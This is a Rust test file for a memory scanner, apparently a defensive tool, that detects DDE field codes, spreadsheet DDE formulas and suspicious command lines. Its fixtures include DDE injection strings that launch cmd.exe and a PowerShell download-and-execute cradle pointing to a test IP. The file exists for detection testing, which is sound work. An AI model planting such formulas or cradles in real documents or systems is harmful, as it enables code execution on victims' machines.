//! What is found in memory and what is not, in both encodings, and whatever the size of the pieces.
#![allow(missing_docs, clippy::expect_used, clippy::panic)]

mod common;

use common::{Kit, kit};
use ddefend_memory::write::utf16;
use ddefend_memory::{CaseCommand, End, Limits, Reading, Settings};
use ddefend_model::Level;
use ddefend_model::memory::{MemoryHit, MemoryImage};
use proptest::prelude::*;
use std::sync::OnceLock;

fn shared() -> &'static Kit {
    static KIT: OnceLock<Kit> = OnceLock::new();
    KIT.get_or_init(kit)
}

/// Raw memory with a text in the middle of zeros and noise.
fn around(text: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0_u8; 333];
    bytes.extend([0xff, 0xfe, 0x01, 0x00]);
    bytes.extend(text);
    bytes.extend([0, 0, 0xff, 0x7f]);
    bytes.resize(1_000.max(bytes.len() + 100), 0);
    bytes
}

fn both(text: &str) -> [(&'static str, Vec<u8>); 2] {
    [("ascii", around(text.as_bytes())), ("utf-16", around(&utf16(text)))]
}

fn kinds(image: &MemoryImage) -> Vec<(&str, Level)> {
    image.hits.iter().map(|hit| (hit.kind.as_str(), hit.level.expect("a level"))).collect()
}

#[test]
fn finds_instructions() {
    let kit = shared();
    let cases = [
        (
            "\u{13}DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \u{14}x\u{15}",
            "dde-field",
            Level::Critical,
        ),
        ("\u{13} DDE cmd \"/c whoami\" \u{15}", "dde-field", Level::High),
        ("{ DDEAUTO cmd \"/c whoami\" }", "dde-field", Level::Critical),
        ("{\\*\\fldinst {DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe \"/k calc\"}}", "dde-field", Level::Critical),
        (
            "<w:instrText xml:space=\"preserve\"> DDEAUTO cmd &quot;/k calc&quot; </w:instrText>",
            "dde-field",
            Level::Critical,
        ),
        ("<w:fldSimple w:instr=\"DDEAUTO cmd &quot;/k calc&quot;\">", "dde-field", Level::Critical),
        ("some words DDEAUTO C:\\Windows\\System32\\cmd.exe \"/k calc\"", "dde-field", Level::Critical),
        ("\u{13}DDEAUTO unknownserver topic item\u{15}", "dde-field", Level::Medium),
        ("=cmd|'/c calc'!A0", "dde-formula", Level::Critical),
        ("+cmd|' /C calc.exe'!'A1'", "dde-formula", Level::Critical),
        ("it's here, =MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "dde-formula", Level::Critical),
        ("a|'b' =cmd|'/c calc'!A0", "dde-formula", Level::Critical),
        ("\"x\",\"@SUM(1+1)*cmd|'/c calc'!A0\"", "dde-formula", Level::Critical),
        ("=cmd|x!A0", "dde-formula", Level::Critical),
        ("of:=DDE(\"cmd\";\"/c calc\";\"x\")", "dde-formula", Level::High),
        ("powershell -w hidden -enc JABjAGwAaQBlAG4AdAA=", "command-line", Level::Medium),
        ("C:\\Windows\\System32\\cmd.exe /c whoami", "command-line", Level::Info),
        ("\"C:\\Program Files\\Microsoft Office\\WINWORD.EXE\" /n \"C:\\a.docx\"", "command-line", Level::Info),
    ];
    for (text, kind, level) in cases {
        for (encoding, bytes) in both(text) {
            let image = kit.read(&bytes);
            let first = image.hits.first().unwrap_or_else(|| panic!("nothing in {encoding} {text:?}"));
            assert_eq!((first.kind.as_str(), first.level), (kind, Some(level)), "{encoding} {text:?} {:?}", image.hits);
            assert_eq!(first.encoding, encoding);
            let step = if encoding == "ascii" { 1 } else { 2 };
            let index = (first.offset - 337) / step;
            let at: String = text.chars().skip(usize::try_from(index).expect("small")).collect();
            assert!(at.starts_with(&first.text), "{text:?} at {index}: {:?}", first.text);
            assert_eq!(image.hits.len(), 1, "{encoding} {text:?} {:?}", image.hits);
        }
    }
}

#[test]
fn says_what_would_run() {
    let image =
        shared().read(&around(&utf16("\u{13}DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \u{15}")));
    assert_eq!(image.hits[0].command, "c:\\windows\\system32\\cmd.exe /k calc.exe");
    let image = shared().read(&around(b"=cmd|'/c calc'!A0"));
    assert_eq!(image.hits[0].command, "cmd.exe /c calc");
}

/// Office's own strings, help, tools and other people's texts.
#[test]
fn passes_over_what_only_looks_like_it() {
    let quiet = [
        "DDE links can be updated automatically when the document is opened",
        "DDE command could not be sent to the application",
        "Ignore other applications that use Dynamic Data Exchange (DDE)",
        "The DDE start page was not found",
        "ddeexec",
        "[open(\"%1\")] ddeexec /dde",
        "C:\\Program Files\\Microsoft Office\\EXCEL.EXE",
        "EXCEL.EXE",
        "cmd.exe",
        "Use cmd to open a window, or powershell if you like",
        "cmd|powershell|mshta",
        "if a|'b' then",
        "sed 's|a|b|'; x='y!'",
        "DDE_Initialize DdeInitializeW DdeConnect",
        "hidden dde and more",
        "AllowDDE",
        "\\System\\CurrentControlSet\\cmd.exeX /c",
    ];
    for text in quiet {
        for (encoding, bytes) in both(text) {
            let image = shared().read(&bytes);
            assert_eq!(kinds(&image), [], "{encoding} {text:?}");
        }
    }
    let words = [
        "DDEAUTO field codes are blocked by your administrator",
        "the DDEAUTO command was disabled",
        "DDEAUTO service topic item",
    ];
    for text in words {
        for (encoding, bytes) in both(text) {
            assert_eq!(kinds(&shared().read(&bytes)), [("dde-keyword", Level::Info)], "{encoding} {text:?}");
        }
    }
}

#[test]
fn knows_data_feeds() {
    let image = shared().read(&around(b"\x13DDEAUTO excel \"C:\\\\data\\\\book.xls\" r1c1\x15"));
    assert_eq!(kinds(&image), [("dde-field", Level::Info)]);
    let image = shared().read(&around(b"=BLP|'IBM US Equity'!PX_LAST"));
    assert_eq!(kinds(&image), [("dde-formula", Level::Info)]);
}

#[test]
fn finds_addresses_near_what_is_bad() {
    let text = "powershell -nop iex (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')";
    let image = shared().read(&around(&utf16(text)));
    assert_eq!(kinds(&image), [("command-line", Level::Medium), ("url", Level::Info)]);
    assert_eq!(image.hits[1].text, "http://192.0.2.7/a.ps1");
    assert_eq!(kinds(&shared().read(&around(&utf16("see http://www.corp.example/ for more")))), []);
}

#[test]
fn finds_commands_of_the_case() {
    let command = CaseCommand {
        of: "dde.launch in invoice.docx".to_owned(),
        text: r#"c:\windows\system32\cmd.exe "/k  notepad.exe unusual-name.txt""#.to_owned(),
    };
    let settings = shared().settings(&[command]);
    for text in [
        r"C:\Windows\System32\cmd.exe /k notepad unusual-name.txt",
        r#""C:\\Windows\\System32\\CMD.EXE"  "/k notepad.exe  unusual-name.txt""#,
        r"c:\windows\system32\cmd /k note^pad unusual-name.txt",
    ] {
        for (encoding, bytes) in both(text) {
            let image = shared().read_with(&bytes, &settings, 64);
            let found = image.hits.iter().find(|hit| hit.kind == "case-command");
            let found = found.unwrap_or_else(|| panic!("{encoding} {text:?} {:?}", image.hits));
            assert_eq!((found.of.as_str(), found.level), ("dde.launch in invoice.docx", Some(Level::High)));
        }
    }
    for text in [r"C:\Windows\System32\cmd.exe /k notepad other-name.txt", "unusual-name.txt"] {
        for (_, bytes) in both(text) {
            let image = shared().read_with(&bytes, &settings, 64);
            assert!(image.hits.iter().all(|hit| hit.kind != "case-command"), "{text:?}");
        }
    }
}

#[test]
fn tells_each_text_once_and_counts_the_rest() {
    let kit = shared();
    let mut bytes = Vec::new();
    for index in 0..50 {
        bytes.extend(around(b"=cmd|'/c calc'!A0"));
        bytes.extend(around(format!("DDEAUTO{} fields", " ".repeat(index + 1)).as_bytes()));
    }
    let image = kit.read(&bytes);
    assert_eq!(image.hits[0].count, 50);
    let limits = Limits { hits: 5, ..Limits::default() };
    let mut more = Vec::new();
    for index in 0..20 {
        more.extend(around(format!("=unknown{index}|'topic'!A0").as_bytes()));
    }
    more.extend(around(b"=cmd|'/c calc'!A0"));
    let settings = Settings::new(kit.content.knowledge(), &kit.lists, &[], limits);
    let image = kit.read_with(&more, &settings, 4_096);
    assert_eq!(image.hits.len(), 5);
    assert_eq!(image.hits[0].level, Some(Level::Critical));
    assert_eq!(image.more_hits, 16);
    assert!(!image.complete);
    assert_eq!(image.diagnostics[0].code, "limit.results");
}

fn hits(bytes: &[u8], pieces: &[usize], settings: &Settings<'_>) -> (Vec<MemoryHit>, u64) {
    let mut source = bytes;
    let mut reading = Reading::open("x", bytes.len() as u64, &mut source, settings);
    let (mut rest, mut turn) = (bytes, pieces.iter().cycle());
    while !rest.is_empty() {
        let size = turn.next().copied().unwrap_or(1).clamp(1, rest.len());
        let (now, later) = rest.split_at(size);
        reading.feed(now);
        rest = later;
    }
    let image = reading.finish(End::default());
    (image.hits, image.more_hits)
}

/// Texts at every place around the ends of windows, in noise that is no text.
#[test]
fn finds_what_lies_over_the_ends_of_windows() {
    let kit = shared();
    let settings = kit.settings(&[]).step(512);
    for text in [b"=cmd|'/c calc'!A0".to_vec(), utf16("\u{13}DDEAUTO cmd \"/c calc\"\u{15}")] {
        for start in (400..1_200).step_by(7).chain(9_100..9_160) {
            let mut bytes: Vec<u8> =
                (0..20_000_u32).map(|i| if i % 3 == 0 { 0xff } else { 0x80 | (i % 7) as u8 }).collect();
            bytes.splice(start..start + text.len(), text.iter().copied());
            bytes[start - 1] = 0;
            bytes[start + text.len()] = 0;
            let (found, _) = hits(&bytes, &[333], &settings);
            let places: Vec<u64> = found.iter().map(|hit| hit.offset).collect();
            assert_eq!(places, [start as u64]);
        }
    }
}

fn grain() -> impl Strategy<Value = Vec<u8>> {
    let texts = prop::sample::select(vec![
        "DDEAUTO cmd \"/c calc\"",
        "\u{13}DDEAUTO cmd \"/c calc\"\u{15}",
        "=cmd|'/c calc'!A0",
        "|'",
        "'!",
        "dde(",
        "DDE ",
        "powershell -enc AAAA",
        "cmd /c ",
        "http://192.0.2.1/x ",
        "winword.exe /n \"a\"",
        "needle.exe --thread",
        " ",
        "x",
        "\"",
    ]);
    prop_oneof![
        4 => texts.clone().prop_map(|text| text.as_bytes().to_vec()),
        4 => texts.clone().prop_map(utf16),
        1 => (texts, 1_usize..400).prop_map(|(text, count)| text.repeat(count).into_bytes()),
        2 => prop::collection::vec(any::<u8>(), 0..40),
        1 => (any::<u8>(), 0_usize..3_000).prop_map(|(byte, count)| vec![byte; count]),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Any pieces give what one piece gives; the window is far smaller than the bytes.
    #[test]
    fn pieces_make_no_difference(
        grains in prop::collection::vec(grain(), 1..30),
        pieces in prop::collection::vec(1_usize..5_000, 1..6),
        gap in 0_usize..4,
    ) {
        let kit = shared();
        let command = CaseCommand { of: "f".to_owned(), text: "needle.exe --thread".to_owned() };
        let limits = Limits { text: 200, hits: 40, ..Limits::default() };
        let mut settings = Settings::new(kit.content.knowledge(), &kit.lists, &[command], limits);
        let bytes = grains.join(&vec![0_u8; gap][..]);
        let whole = hits(&bytes, &[usize::MAX], &settings);
        settings = settings.step(1);
        prop_assert_eq!(&whole, &hits(&bytes, &pieces, &settings));
        prop_assert_eq!(&whole, &hits(&bytes, &[1], &settings));
    }
}
